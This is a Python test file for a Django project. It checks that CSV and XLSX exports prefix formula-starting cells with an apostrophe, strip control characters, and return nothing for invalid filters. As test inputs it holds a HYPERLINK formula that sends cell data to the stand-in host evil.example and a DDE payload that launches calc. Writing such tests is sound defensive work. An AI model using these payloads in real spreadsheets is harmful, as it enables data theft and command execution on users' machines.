"""Every spreadsheet download of the project opens safely, whatever its rows hold.

Issue 13, findings 1 and 3: a control character stored in a row made the XLSX download a 500
(openpyxl refuses it), and a cell starting with `=`, `+`, `-` or `@` ran as a formula when the
CSV was opened in a spreadsheet program (OWASP: CSV injection).
"""

import io
import zipfile

import pytest
from django.urls import reverse

from consent.models import ConsentCookie, ConsentGroup
from medical_content import factories
from safe_text.spreadsheets import FORMULA_STARTS, spreadsheet_cell
from tests.consent.test_records_report import make_record
from tests.spreadsheets import downloaded_rows

# A cell that would run in Excel, with a control character in it too.
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open\x01")'
QUOTED = '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
CLEANED = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


class TestSpreadsheetCell:
    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ("=1+1", "'=1+1"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("Dr Imogen Varga", "Dr Imogen Varga"),
            ("A1=B1", "A1=B1"),
            ("", ""),
        ],
    )
    def test_a_text_that_starts_a_formula_starts_with_an_apostrophe(self, value, expected):
        assert spreadsheet_cell(value) == expected

    def test_control_characters_go_tabs_and_line_breaks_stay(self):
        assert spreadsheet_cell("a\x00b\x01c\x0bd\x1b[31m\te\nf\r\ng") == "abcd[31m\te\nf\r\ng"

    def test_the_apostrophe_comes_after_the_control_characters_are_gone(self):
        assert spreadsheet_cell("\x01=1+1") == "'=1+1"

    @pytest.mark.parametrize("value", [-3, 2.5, True, None])
    def test_numbers_booleans_and_none_stay_as_they_are(self, value):
        assert spreadsheet_cell(value) is value

    def test_without_quoting_only_the_control_characters_go(self):
        assert spreadsheet_cell("=1+1\x01", quote_formula=False) == "=1+1"


def rating_with_a_formula():
    factories.PatientRatingFactory(comment=FORMULA, source="@survey")
    return reverse("wagtailsnippets_medical_content_patientrating:list"), "Comment"


def cookie_with_a_formula():
    ConsentCookie.objects.create(
        cookiegroup=ConsentGroup.objects.get(varname="analytics"),
        name="_formula",
        provider=FORMULA,
        purpose="Testing",
        duration="1 day",
    )
    return reverse("consent_cookies:index"), "Provider"


def record_with_a_formula():
    # A row stored before requests lost their control characters; the path stands for any text
    # column (the browser column holds 30 characters, which PostgreSQL enforces).
    make_record(path=FORMULA)
    return reverse("consent_records:index"), "Path"


def article_with_a_formula():
    home = factories.HomePageFactory()
    index = factories.ArticleIndexPageFactory(parent=home)
    factories.ArticlePageFactory(parent=index, title=FORMULA)
    return "/admin/reports/review-schedule/", "Article"


EXPORTS = {
    "patient ratings": rating_with_a_formula,
    "cookies": cookie_with_a_formula,
    "consent records": record_with_a_formula,
    "review schedule": article_with_a_formula,
}


def cells_of(rows, heading):
    column = rows[0].index(heading)
    return [row[column] for row in rows[1:]]


def xlsx_sheet_xml(response) -> str:
    content = b"".join(response.streaming_content)
    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.django_db
@pytest.mark.parametrize("make_rows", EXPORTS.values(), ids=EXPORTS.keys())
class TestEveryExport:
    def test_csv_quotes_the_formula_and_drops_the_control_character(self, admin_client, make_rows):
        url, heading = make_rows()
        rows = downloaded_rows(admin_client.get(url, {"export": "csv"}))
        assert QUOTED in cells_of(rows, heading)
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]

    def test_xlsx_opens_and_holds_the_text_not_a_formula(self, admin_client, make_rows):
        url, heading = make_rows()
        assert "<f>" not in xlsx_sheet_xml(admin_client.get(url, {"export": "xlsx"}))
        rows = downloaded_rows(admin_client.get(url, {"export": "xlsx"}))
        assert CLEANED in cells_of(rows, heading)


@pytest.mark.django_db
class TestAnInvalidFilterMatchesNothing:
    """Issue 13, finding 10, for the other filtered downloads (the records report has its own
    tests in tests/consent/test_records_report.py)."""

    @pytest.mark.parametrize(
        ("url", "params"),
        [
            ("wagtailsnippets_medical_content_patientrating:list", {"status": "bribed"}),
            ("consent_cookies:index", {"cookiegroup": "999999"}),
        ],
    )
    def test_no_row_and_the_listing_says_why(self, admin_client, url, params):
        factories.PatientRatingFactory()
        listing = admin_client.get(reverse(url), params)
        assert listing.status_code == 200
        assert list(listing.context["object_list"]) == []
        assert "Nothing is shown: a filter is not valid" in listing.content.decode()
        rows = downloaded_rows(admin_client.get(reverse(url), {**params, "export": "csv"}))
        assert rows[1:] == []
